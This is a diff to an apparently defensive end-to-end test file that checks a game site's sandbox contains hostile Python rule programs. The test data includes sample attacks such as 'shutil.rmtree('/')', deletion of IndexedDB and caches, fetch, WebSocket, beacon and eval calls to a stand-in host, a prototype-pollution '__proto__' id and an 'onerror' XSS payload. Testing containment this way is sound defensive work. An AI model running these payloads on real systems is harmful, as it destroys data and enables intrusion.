@@ -1,7 +1,8 @@
-"""Twenty programs that try to get out of their closed room, or to break the page: what each tries, and that it fails.
+"""Programs that try to get out of their closed room, or to break the page: what each tries, and that it fails.
 
 Each runs as the rules of a made game. Another host notes whether anything reaches it; a table that was made before
-must be as it was, and the page must play on.
+must be as it was, and the page must play on. What the page tells is compared too: a room that does not open at all
+would stop every program. They are grouped by the guard that stops them.
 """
 
 from __future__ import annotations
@@ -19,76 +20,140 @@ from e2e.picture import small_boards
 from e2e.rooms import OTHER_HOST, other_host
 from e2e.watching import A_ROOM, refusals, requests_to
 
-ASYNC = "import asyncio\nasyncio.ensure_future({what})"
-"""Python in a worker has an event loop, which goes on after the program has been loaded."""
 NESTED = "import js\njs.Worker.new(js.URL.createObjectURL(js.Blob.new(js.Array.of({script!r}))))"
-HANDLERS = "import sys\nHANDLERS = sys.modules['pycore.bridge'].HANDLERS\n"
+DOOR = "from pycore.door import asking, playing\ncard, board, new = asking.card, asking.board, playing.new\n"
+PLAIN = 'import js\nplain = js.JSON.parse(\'{"mode": "no-cors"}\')\n'
+PRECIOUS = "precious"
+"""A database and a cache of the test's own."""
 
-HOSTILE: dict[str, str] = {
-    "loops": "while True: pass",
-    "recurses": "def again(): return again()\nagain()",
-    "recurses where nobody stops it": "import sys\nsys.setrecursionlimit(10**9)\ndef again(): return again()\nagain()",
-    "fills the memory at once": "kept = bytearray(2_000_000_000)",
-    "fills the memory step by step": "kept = []\nwhile True: kept.append(bytearray(10_000_000))",
-    "fetches": "import js\njs.fetch('HOST')",
-    "fetches synchronously": "import js\nasked = js.XMLHttpRequest.new()\nasked.open('GET', 'HOST', False)\nasked.send()",
-    "fetches by Pyodide": "from pyodide.http import open_url\nopen_url('HOST')",
-    "opens a WebSocket": "import js\njs.WebSocket.new('HOST'.replace('http', 'ws'))",
-    "sends a beacon": "import js\njs.navigator.sendBeacon('HOST', 'x')",
-    "starts a nested worker": NESTED.format(script="fetch('HOST', { mode: 'no-cors' })"),
-    "opens a peer connection": "import js\njs.RTCPeerConnection.new()",
-    "goes to another address": "import js\njs.location.assign('HOST')",
-    "runs text as JavaScript": "import js\njs.eval(\"fetch('HOST')\")",
-    "opens a socket": "import socket\nsocket.create_connection(('127.0.0.1', int('HOST'.split(':')[2].strip('/'))), 1)",
-    "deletes what is stored": "import js\njs.indexedDB.deleteDatabase('chess-pilgrimage/1/')",
-    "empties the caches and the local storage": "import js\njs.caches.keys()\njs.localStorage.clear()",
-    "deletes all files": "import shutil\nshutil.rmtree('/', ignore_errors=True)",
-    "replaces the door": HANDLERS
-    + "for name in list(HANDLERS): HANDLERS[name] = lambda request: {'scene': '<script>'}",
-    "forgets all modules": "import sys\nsys.modules.clear()",
-    "ends the process": "import os\nos._exit(3)",
-    "closes its worker": "import js\njs.self.close()",
-    "floods the page": "import js\nfor _ in range(200): js.postMessage('x' * 1_000_000)",
-    "names cells after parts of every object": (
-        HANDLERS + "look = HANDLERS['load-game']\n"
-        "def answer(request):\n"
-        "    reply = look(request)\n"
-        "    reply['board']['cells'][0]['id'] = '__proto__'\n"
-        "    return reply\n"
-        "HANDLERS['load-game'] = answer"
+BOARD = "the board is shown"
+STOPPED = "The program of this game did not answer, so its room was closed."
+SENSELESS = "The program of this game has answered something that makes no sense."
+AGAIN = "has a fault in game.py, line 15: The program calls itself again and again."
+
+Programs = dict[str, tuple[str, str]]
+"""The lines of a program by what it tries, and what the page tells of it; HOST is the address of another host."""
+
+LIMITS: Programs = {
+    "loops": ("while True: pass", STOPPED),
+    "recurses": ("def again(): return again()\nagain()", AGAIN),
+    "recurses where nobody stops it": (
+        "import sys\nsys.setrecursionlimit(10**9)\ndef again(): return again()\nagain()",
+        STOPPED,
     ),
-    "writes HTML": (
-        HANDLERS + "look = HANDLERS['load-game']\n"
-        "def answer(request):\n"
-        "    reply = look(request)\n"
-        "    reply['card']['goal'] = reply['card']['hook'] = '<img src=x onerror=\"window.alerted = 1\">'\n"
-        "    return reply\n"
-        "HANDLERS['load-game'] = answer"
+    "fills the memory at once": ("kept = bytearray(2_000_000_000)", "needs more memory than there is"),
+    "fills the memory step by step": (
+        "kept = []\nwhile True: kept.append(bytearray(10_000_000))",
+        "needs more memory than there is",
     ),
 }
-"""What a program tries, and the lines that do it; HOST is the address of another host."""
+"""Stopped by the limits of the room: its time, its calls and its memory."""
+
+NETWORK: Programs = {
+    "fetches": ("import js\njs.fetch('HOST')", BOARD),
+    "fetches without CORS": (PLAIN + "js.fetch('HOST', plain)", BOARD),
+    "fetches synchronously": (
+        "import js\nasked = js.XMLHttpRequest.new()\nasked.open('GET', 'HOST', False)\nasked.send()",
+        "NetworkError",
+    ),
+    "opens a WebSocket": ("import js\njs.WebSocket.new('HOST'.replace('http', 'ws'))", BOARD),
+    "listens to a stream": ("import js\njs.EventSource.new('HOST')", BOARD),
+    "loads a font": ("import js\njs.FontFace.new('x', 'url(HOST)').load()", BOARD),
+    "loads a script": ("import js\njs.importScripts('HOST')", "NetworkError"),
+    "starts a nested worker": (NESTED.format(script="fetch('HOST', { mode: 'no-cors' })"), BOARD),
+    "runs text as JavaScript": ("import js\njs.eval(\"fetch('HOST')\")", "EvalError"),
+}
+"""Stopped by the policies of the page and of the frame."""
+
+STORES: Programs = {
+    "deletes a database": (f"import js\njs.indexedDB.deleteDatabase('{PRECIOUS}')", "SecurityError"),
+    "deletes a cache": (f"import js\njs.caches.delete('{PRECIOUS}')", "caches (AttributeError)"),
+}
+"""Stopped by the sandbox of the frame, which has no origin."""
+
+WORKER: Programs = {
+    "deletes all files": ("import shutil\nshutil.rmtree('/', ignore_errors=True)", BOARD),
+    "forgets all modules": ("import sys\nsys.modules.clear()", "Something went wrong in the rules."),
+    "ends the process": ("import os\nos._exit(3)", STOPPED),
+    "closes its worker": ("import js\njs.self.close()", BOARD),
+}
+"""They reach only their own worker."""
+
+REPLIES: Programs = {
+    "replaces the door": (DOOR + "playing.new = lambda request: {'scene': '<script>'}", SENSELESS),
+    "answers nine million letters": (
+        DOOR + "asking.card = lambda spec: card(spec) | {'goal': 'x' * 9_000_000}",
+        STOPPED,
+    ),
+    "names cells after parts of every object": (
+        DOOR + "def spoilt(request):\n"
+        "    reply = board(request)\n"
+        "    first = reply['board']['cells'][0]\n"
+        "    reply['board']['cells'] = [{**first, 'id': '__proto__'}, *reply['board']['cells'][1:]]\n"
+        "    return reply\n"
+        "asking.board = spoilt",
+        SENSELESS,
+    ),
+    "writes HTML": (
+        DOOR + "asking.card = lambda spec: card(spec) | {'goal': '<img src=x onerror=\"window.alerted = 1\">'}",
+        BOARD,
+    ),
+}
+"""Stopped by the checks of replies, and because the page inserts texts as texts."""
+
+ABSENT: Programs = {
+    "fetches by Pyodide": ("from pyodide.http import open_url\nopen_url('HOST')", "no module “pyodide.http”"),
+    "sends a beacon": ("import js\njs.navigator.sendBeacon('HOST', 'x')", "sendBeacon (AttributeError)"),
+    "opens a peer connection": ("import js\njs.RTCPeerConnection.new()", "RTCPeerConnection (AttributeError)"),
+    "goes to another address": ("import js\njs.location.assign('HOST')", "assign (AttributeError)"),
+    "opens a socket": (
+        "import socket\nsocket.create_connection(('127.0.0.1', int('HOST'.split(':')[2].strip('/'))), 1)",
+        "unknown encoding: idna",
+    ),
+}
+"""Stopped by no guard: such things do not exist in a worker, or in this Python."""
+
+HOSTILE: Programs = LIMITS | NETWORK | STORES | WORKER | REPLIES | ABSENT
+
+KEEP = """async (name) => {
+    const opening = indexedDB.open(name);
+    opening.onupgradeneeded = () => opening.result.createObjectStore("kept").put("here", 1);
+    await new Promise((resolve) => (opening.onsuccess = resolve));
+    opening.result.close();
+    await (await caches.open(name)).put("/kept", new Response("here"));
+}"""
+KEPT = """async (name) => {
+    const bases = await indexedDB.databases();
+    return [bases.some((one) => one.name === name), (await caches.keys()).includes(name)];
+}"""
 
 
 @pytest.mark.long
 @pytest.mark.parametrize("what", HOSTILE)
 def test_a_hostile_game_reaches_nothing(page: Page, site: str, what: str) -> None:
+    lines, told = HOSTILE[what]
     page.context.watched.expect(A_ROOM, requests_to(OTHER_HOST), refusals("style-src-attr"))
     page.goto(site)
     set_table(page)
     point(page, "B1", "B3")
     expect(page.locator("button.ply").first).to_be_visible(timeout=BOOT_TIMEOUT)
     expect(page.locator("html")).to_have_attribute("data-saved", "device")
+    page.evaluate(KEEP, PRECIOUS)
     table, before = page.url, record_of(page)
     assert before["log"] == ["b1b3"]
     with other_host() as (host, asked):
-        receive(page, site, spoilt(HOSTILE[what].replace("HOST", host)))
+        receive(page, site, spoilt(lines.replace("HOST", host)))
         page.get_by_role("button", name="Show the board").click()
         board, alert = small_boards(page), page.get_by_role("alert").filter(has_text=".")
         expect(board.or_(alert).first).to_be_visible(timeout=BOOT_TIMEOUT)
-        print(f"{what}: {alert.first.inner_text() if alert.count() else 'the board is shown'}")
+        assert told in (alert.first.inner_text() if alert.count() else BOARD)
         page.wait_for_timeout(500)  # whatever it has begun may go on
         assert asked == [], "something left the room"
+    if what == "writes HTML":
+        expect(page.get_by_text("To win: <img src=x onerror=")).to_be_visible()
+    assert page.locator("img[src=x]").count() == 0
     assert page.evaluate("window.alerted") is None
+    assert page.evaluate(KEPT, PRECIOUS) == [True, True]
     expect_the_page_to_work(page, site)
     page.goto(table)
     expect(page.locator("button.ply").first).to_be_visible(timeout=BOOT_TIMEOUT)
